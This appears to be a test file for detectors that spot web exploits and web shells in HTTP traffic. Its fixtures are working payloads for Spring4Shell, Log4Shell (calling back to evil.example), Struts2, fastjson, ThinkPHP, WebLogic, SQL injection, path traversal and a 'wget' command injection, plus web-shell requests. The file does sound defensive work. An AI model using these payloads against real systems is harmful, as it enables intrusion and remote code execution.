import { test } from 'node:test';
import assert from 'node:assert/strict';
import { webExploitDetector, matchExploits, deobfuscateLog4j, spring4ShellTarget } from '../../../src/detectors/network/webexploit.js';
import { webshellDetector } from '../../../src/detectors/network/webshell.js';
import { parseParams } from '../../../src/detectors/network/util.js';
import { http, rec, run, T0 } from './build.js';

const S4S_BODY =
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%7D' +
  '&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp' +
  '&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT' +
  '&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar' +
  '&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=';

test('Spring4Shell: target file from the valve parameters', () => {
  assert.equal(spring4ShellTarget(parseParams(S4S_BODY)), '/tomcatwar.jsp');
  assert.equal(spring4ShellTarget(parseParams('class.module.classLoader.resources.context.parent.pipeline.first.prefix=x&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/app')), '/app/x.jsp');
  const h = matchExploits(http(T0, '10.0.0.3', '10.0.0.15', { method: 'POST', uri: '/', body: S4S_BODY, headers: { 'content-type': 'application/x-www-form-urlencoded' } }));
  assert.equal(h[0].cve, 'CVE-2022-22965');
  assert.equal(h[0].writesFile, '/tomcatwar.jsp');
});

test('Spring4Shell exploit followed by a request to the written jsp: compromised, and a web shell', () => {
  const ev = [
    http(T0, '10.0.0.3', '10.0.0.15', { method: 'POST', uri: '/index', body: S4S_BODY, status: 200 }),
    http(T0 + 10_000, '10.0.0.3', '10.0.0.15', { uri: '/tomcatwar.jsp?pwd=j&cmd=whoami', status: 200, resp: 'nt authority\\system\n' }),
  ];
  const fe = run(webExploitDetector, ev);
  assert.equal(fe.length, 1);
  assert.equal(fe[0].outcome, 'compromised');
  assert.equal(fe[0].facts!.cve, 'CVE-2022-22965');
  assert.equal(fe[0].evidence.length, 2);
  const fw = run(webshellDetector, ev);
  assert.equal(fw.length, 1);
  assert.equal(fw[0].outcome, 'compromised');
  assert.equal(fw[0].facts!.path, '/tomcatwar.jsp');
  assert.ok((fw[0].facts!.reasons as string[]).includes('written-then-requested'));
  // without the follow-up: only an attempt
  assert.equal(run(webExploitDetector, ev.slice(0, 1))[0].outcome, 'attempt');
  assert.equal(run(webshellDetector, ev.slice(0, 1)).length, 0);
});

test('Log4Shell obfuscations are undone and the callback confirms success', () => {
  assert.equal(deobfuscateLog4j('${${lower:j}${upper:N}${::-d}${env:NOPE:-i}:ldap://x}'), '${jNdi:ldap://x}');
  const ua = '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example:1389/Basic/Command}';
  const ev = [
    http(T0, '203.0.113.50', '10.0.0.20', { uri: '/', ua, status: 200 }),
    rec('dns', T0 + 300, '10.0.0.20', '10.0.0.2', 53, { 'dns.question.name': 'evil.example', 'dns.resolved_ip': ['198.51.100.99'] }),
  ];
  const f = run(webExploitDetector, ev);
  assert.equal(f.length, 1);
  assert.equal(f[0].facts!.cve, 'CVE-2021-44228');
  assert.deepEqual((f[0].facts!.jndiCallbacks as unknown[])[0], { scheme: 'ldap', host: 'evil.example', port: 1389 });
  assert.equal(f[0].outcome, 'succeeded');
  assert.equal(run(webExploitDetector, ev.slice(0, 1))[0].outcome, 'attempt');
  // URL-encoded in the URI
  assert.equal(matchExploits(http(T0, 'a', 'b', { uri: '/?x=%24%7Bjndi%3Armi%3A%2F%2F1.2.3.4%2Fa%7D' }))[0]?.sig, 'log4shell');
});

test('Struts2, fastjson, ThinkPHP, WebLogic, SQLi, traversal are named; rejected attempts fail', () => {
  const sig = (o: Parameters<typeof http>[3]) => matchExploits(http(T0, '1.2.3.4', '10.0.0.1', o)).map((h) => h.sig);
  assert.ok(sig({ uri: '/upload.action', headers: { 'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm))}" } }).includes('struts2-ognl-content-type'));
  assert.ok(sig({ method: 'POST', uri: '/api', body: '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/y","autoCommit":true}}' }).includes('fastjson'));
  assert.ok(sig({ uri: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' }).includes('thinkphp-invokefunction'));
  assert.ok(sig({ method: 'POST', uri: '/wls-wsat/CoordinatorPortType' }).includes('weblogic-wls-wsat'));
  assert.ok(sig({ uri: "/item.php?id=1' UNION SELECT username,password FROM users--" }).includes('sqli'));
  assert.ok(sig({ uri: '/download?file=../../../../etc/passwd' }).includes('path-traversal'));
  assert.ok(sig({ uri: '/ping?host=127.0.0.1;wget http://x/a.sh' }).includes('cmd-injection'));
  const f = run(webExploitDetector, [http(T0, '1.2.3.4', '10.0.0.1', { method: 'POST', uri: '/wls-wsat/CoordinatorPortType', status: 404 })]);
  assert.equal(f[0].outcome, 'failed');
  assert.equal(f[0].facts!.cve, 'CVE-2017-10271');
});

test('ordinary web traffic raises nothing', () => {
  const ev = [
    http(T0, '10.0.0.7', '10.0.0.15', { uri: '/index.html', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' }),
    http(T0 + 1, '10.0.0.7', '10.0.0.15', { uri: '/search?q=select+a+product+from+the+list&page=2' }),
    http(T0 + 2, '10.0.0.7', '10.0.0.15', { method: 'POST', uri: '/login.php', body: 'user=bob&password=idiot123&id=4' }),
    http(T0 + 3, '10.0.0.7', '10.0.0.15', { uri: '/product.php?id=3&cat=2', resp: '<html>price</html>' }),
    http(T0 + 4, '10.0.0.7', '10.0.0.15', { method: 'POST', uri: '/api/items', body: '{"name":"a","price":3}' }),
    http(T0 + 5, '10.0.0.7', '10.0.0.15', { uri: '/static/app.js?v=1.2.3' }),
  ];
  assert.deepEqual(run([webExploitDetector, webshellDetector], ev), []);
});

test('web shells: command parameters, eval bodies, uploads then requests', () => {
  const cmd = run(webshellDetector, [http(T0, '203.0.113.5', '10.0.0.15', { uri: '/uploads/x.php?cmd=id', resp: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)' })]);
  assert.equal(cmd.length, 1);
  assert.equal(cmd[0].outcome, 'compromised');
  assert.ok((cmd[0].facts!.outputs as string[])[0].includes('uid=33'));
  const chopper = run(webshellDetector, [http(T0, '203.0.113.5', '10.0.0.15', { method: 'POST', uri: '/a.php', body: 'z=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ=' })]);
  assert.equal(chopper.length, 1);
  const boundary = '----x';
  const upload = http(T0, '203.0.113.5', '10.0.0.15', {
    method: 'POST',
    uri: '/upload',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="shell.jsp"\r\n\r\n<% %>\r\n--${boundary}--`,
  });
  const used = http(T0 + 5000, '203.0.113.5', '10.0.0.15', { uri: '/files/shell.jsp', status: 200 });
  const up = run(webshellDetector, [upload, used]);
  assert.equal(up.length, 1);
  assert.ok((up[0].facts!.reasons as string[]).includes('written-then-requested'));
});

test('file contents read through path traversal are an exploit result, not a web shell', () => {
  const ev = [http(T0, '10.99.99.1', '10.99.99.45', { uri: '//index.php?page=../../../etc/passwd', status: 200, resp: 'root:x:0:0:root:/root:/bin/bash\n' })];
  const fe = run(webExploitDetector, ev);
  assert.equal(fe.length, 1);
  assert.equal(fe[0].facts!.signature, 'path-traversal');
  assert.equal(fe[0].outcome, 'succeeded');
  assert.equal(run(webshellDetector, ev).length, 0);
});

test('the signature gate never hides a match: every text a signature matches passes the gate', async () => {
  const { SIGS, SIG_GATE } = await import('../../../src/detectors/network/webexploit.js');
  const tokens = [
    'class', '.', 'module', '[', "'", ']', 'classLoader', 'spring.cloud.function.routing-expression', ':', 'T(', 'getRuntime', '%{', '${', '#_memberaccess', 'ognl', '#context',
    '#cmd', 'redirect', 'action', '"@type"', '"', 'com.sun.rowset.JdbcRowSetImpl', 'org.apache.x', '\\think\\app/invokefunction', 'think\\\\request/input', 's=/index/\\think',
    '_method=__construct', '&', 'filter[]=', '/wls-wsat/CoordinatorPortType', '/_async/AsyncResponseService', '/console/', '..', '%2e%2e', 'console.portal', ';', '|', '`', '$(',
    '&&', '||', ' ', 'wget', 'id', 'whoami', 'cmd.exe /c', 'union', 'all', 'select', 'from', 'where', 'or', 'and', '1', '=', 'sleep(5)', 'benchmark(', 'waitfor delay',
    'information_schema', 'extractvalue(', 'updatexml(', 'load_file(', 'drop table', 'xp_cmdshell', '/', '\\', 'etc/passwd', '/etc/shadow', 'c:\\windows\\win.ini', 'web.xml',
    '<', 'script', '>', 'javascript:alert', 'onerror=', 'onload=x', 'img', 'svg', 'a=b', 'x', '?', 'Mozilla/5.0', 'index.html',
    'class.module.', "class['module'][", '"@type":"', '"@type" : "', '/console/..', '/console/css/%2e%2e',
  ];
  // mulberry32: exact 32-bit integer arithmetic (a float LCG loses bits and cycles early)
  let seed = 3;
  const rnd = (n: number) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return Math.floor((((t ^ (t >>> 14)) >>> 0) / 4294967296) * n);
  };
  const perSig: Record<string, number> = {};
  for (let i = 0; i < 60_000; i++) {
    let t = '';
    const n = 1 + rnd(7);
    for (let j = 0; j < n; j++) t += tokens[rnd(tokens.length)];
    const gate = SIG_GATE.test(t);
    for (const sg of SIGS) {
      if (!sg.re.test(t)) continue;
      perSig[sg.sig] = (perSig[sg.sig] ?? 0) + 1;
      assert.ok(gate, `${sg.sig} matches ${JSON.stringify(t)} but the gate does not`);
    }
  }
  // every signature was exercised, so the property was checked for each
  for (const sg of SIGS) assert.ok((perSig[sg.sig] ?? 0) >= 10, `${sg.sig} matched only ${perSig[sg.sig] ?? 0} generated texts`);
});
